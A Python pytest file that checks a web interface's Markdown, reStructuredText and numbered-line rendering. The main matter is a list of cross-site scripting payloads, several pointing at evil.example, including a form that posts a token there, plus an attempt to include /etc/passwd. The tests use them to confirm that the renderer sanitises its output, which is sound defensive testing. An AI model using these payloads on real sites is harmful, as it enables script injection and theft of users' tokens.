"""A document as HTML: nothing dangerous passes, every line can be reached, lit and marked."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nexus.domain.documents import MarkView
from nexus.domain.learning import Kind
from nexus.domain.views import EntryRef
from nexus.interfaces.web import markdown, numbered, restructured

DANGEROUS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<iframe src=https://evil.example></iframe>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed' onclick=x()>x</p>",
    "<form action=https://evil.example><input name=token><button>go</button></form>",
    "<meta http-equiv=refresh content=0>",
    "<base href=https://evil.example>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details ontoggle=alert(1) open>x</details>",
    "![x](javascript:alert(1))",
    '```"onmouseover=alert(1) x="\ncode\n```',
)
ALLOWED = {"id", "class", "href", "title", "rel", "tabindex", "start", "open", "colspan", "rowspan", "scope"}
FORBIDDEN = {"script", "style", "iframe", "form", "input", "button", "img", "svg", "meta", "base", "object", "embed"}


class Read(HTMLParser):
    """Collects the tags and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def all(self, attribute: str) -> list[str]:
        return [value for name, value in self.attributes if name == attribute]


def is_safe(page: str) -> bool:
    """Return whether a page holds only what the allow-list knows."""
    read = Read(page)
    links = [link for link in read.all("href") if not link.startswith(("#", "https://", "http://", "mailto:"))]
    return not (FORBIDDEN & set(read.tags)) and not links and {name for name, _ in read.attributes} <= ALLOWED


@pytest.mark.parametrize("text", DANGEROUS)
def test_nothing_dangerous_passes(text: str) -> None:
    assert is_safe(markdown.rendered(f"before\n\n{text}\n\nafter {text} end\n"))
    assert is_safe(restructured.rendered(f"before\n\n{text}\n\n.. raw:: html\n\n   {text}\n"))


def test_a_document_cannot_take_ids_or_classes() -> None:
    page = markdown.rendered('<p id="main" class="lit" style="x">one</p>\n\ntwo\n')
    assert "main" not in page
    assert "lit" not in page
    assert "two" in page


def test_no_file_of_the_machine_is_included() -> None:
    page = restructured.rendered(".. include:: /etc/passwd\n\n.. csv-table::\n   :file: /etc/passwd\n\nend\n")
    assert "root:" not in page
    assert "end" in page


@given(
    st.lists(
        st.sampled_from(
            [*DANGEROUS, "# h", "- a", "  b", "1. x", "", "> q", "| a | b |", "|---|---|", "```", "[^1]: n", "x[^1]"]
        ),
        max_size=14,
    )
)
def test_every_page_is_safe_and_its_ids_are_unique(lines: list[str]) -> None:
    page = markdown.rendered("\n".join(lines), lit=range(2, 4), lines=range(1, len(lines) + 1), marks=lambda n: "")
    assert is_safe(page)
    ids = Read(page).all("id")
    assert len(ids) == len(set(ids))


TEXT = """# Title

A paragraph
of two lines.

- first
  - nested
- second

| a | b |
|---|---|
| 1 | 2 |

```sh
one
two
```
"""


def test_each_line_that_says_something_has_its_id() -> None:
    ids = Read(markdown.rendered(TEXT)).all("id")
    assert ids == ["L1", "L3", "L4", "L6", "L7", "L8", "L10", "L12", "L15", "L16"]


@pytest.mark.parametrize(
    ("lit", "shown"),
    [
        (range(3, 4), ["A paragraph of two lines."]),
        (range(4, 5), ["A paragraph of two lines."]),
        (range(6, 7), ["first"]),
        (range(6, 8), ["first nested"]),
        (range(7, 9), ["nested", "second"]),
        (range(12, 13), ["1 2"]),
        (range(16, 17), ["two"]),
        (range(90, 91), []),
    ],
)
def test_the_lines_asked_for_are_lit(lit: range, shown: list[str]) -> None:
    page = markdown.rendered(TEXT, lit=lit)
    found = re.findall(r'<(\w+)[^>]*class="[^"]*\blit\b[^"]*"[^>]*>(.*?)</\1>', page, re.DOTALL)
    words = [" ".join(re.sub(r"<[^>]*>", " ", inner).split()) for _, inner in found]
    assert words == shown


def test_an_item_of_two_lines_is_lit_by_either() -> None:
    for line in (1, 2):
        page = markdown.rendered("- one\n  two\n- three\n", lit=range(line, line + 1))
        assert page.startswith('<ul><li id="L1" class="lit">one')


def test_a_mark_stands_in_the_block_of_its_line() -> None:
    page = markdown.rendered(TEXT, lines=[3, 6, 7, 12, 16, 99], marks=lambda numbers: f"⟦{numbers}⟧")
    assert '<p id="L3">⟦[0]⟧A paragraph' in page
    assert '<li id="L6">⟦[1]⟧first' in page
    assert '<li id="L7">⟦[2]⟧nested' in page
    assert '<td class="aside">⟦[3]⟧</td></tr>' in page
    assert '⟦[4]⟧<pre tabindex="0">' in page
    assert page.startswith("⟦[5]⟧")


def test_restructured_text_is_placed_too() -> None:
    text = "Title\n=====\n\nOne\nparagraph.\n\n- item\n- other\n\n::\n\n   code\n   more\n"
    page = restructured.rendered(text, lit=range(8, 9), lines=[4, 12], marks=lambda numbers: f"⟦{numbers}⟧")
    assert Read(page).all("id") == ["L1", "L4", "L7", "L8", "L12", "L13"]
    assert '<p id="L4">⟦[0]⟧One' in page
    assert '<p id="L8" class="lit">other' in page
    assert '⟦[1]⟧<pre tabindex="0">' in page


def test_links_of_a_document_lead_through_the_hub() -> None:
    page = markdown.rendered(
        "# Some Title\n\n[there](other.md) [here](#some-title) [nowhere](#none) [out](https://example.org)",
        relative=lambda asked: f"https://hub.example/{asked}",
    )
    links = Read(page).all("href")
    assert links == ["https://hub.example/other.md", "#L1", "https://example.org"]


def test_footnotes_and_tasks_are_kept() -> None:
    page = markdown.rendered("- [x] done\n- [ ] open\n\nnote[^a]\n\n[^a]: the note\n")
    assert '<span class="task">☑</span> done' in page
    assert '<a href="#fn-1"' in page
    assert 'id="fn-1"' in page


def test_numbered_lines_are_escaped_lit_and_underlined() -> None:
    rows = ["<script>", "a & b", "last"]
    page = numbered.rendered(rows, shown=range(1, 4), lit=range(2, 3), marks=(), placed=lambda _: "")
    assert "&lt;script&gt;" in page
    assert Read(page).all("id") == ["L1", "L2", "L3"]
    assert '<li id="L2" class=lit>' in page


def test_a_long_document_is_shown_around_the_line_asked_for() -> None:
    assert numbered.window(5_000, 2_001) == range(2_001, 4_001)
    assert numbered.window(5_000, 4_900) == range(4_001, 5_001)
    assert numbered.window(0, 7) == range(1, 1)


def test_a_line_of_source_is_underlined_at_its_columns() -> None:
    entry = EntryRef(id=1, kind=Kind.TECHNOLOGY, slug="celery", title="Celery", sources=2)
    told = {"learning": 1, "kind": Kind.TECHNOLOGY, "entry": entry, "confidence": 900, "reason": ""}
    one = MarkView(line=1, column=3, end_line=1, end_column=9, **told)
    two = MarkView(line=2, column=1, end_line=3, end_column=3, **told)
    rows = ["- Celery <b>", "all of it", "to here"]
    page = numbered.rendered(rows, shown=range(1, 4), lit=range(0), marks=(one, two), placed=lambda n: f"⟦{n}⟧")
    assert "<code>- <mark class=k-technology>Celery</mark> &lt;b&gt;</code>⟦[0]⟧" in page
    assert "<code><mark class=k-technology>all of it</mark></code>⟦[1]⟧" in page
    assert "<code><mark class=k-technology>to</mark> here</code></li>" in page
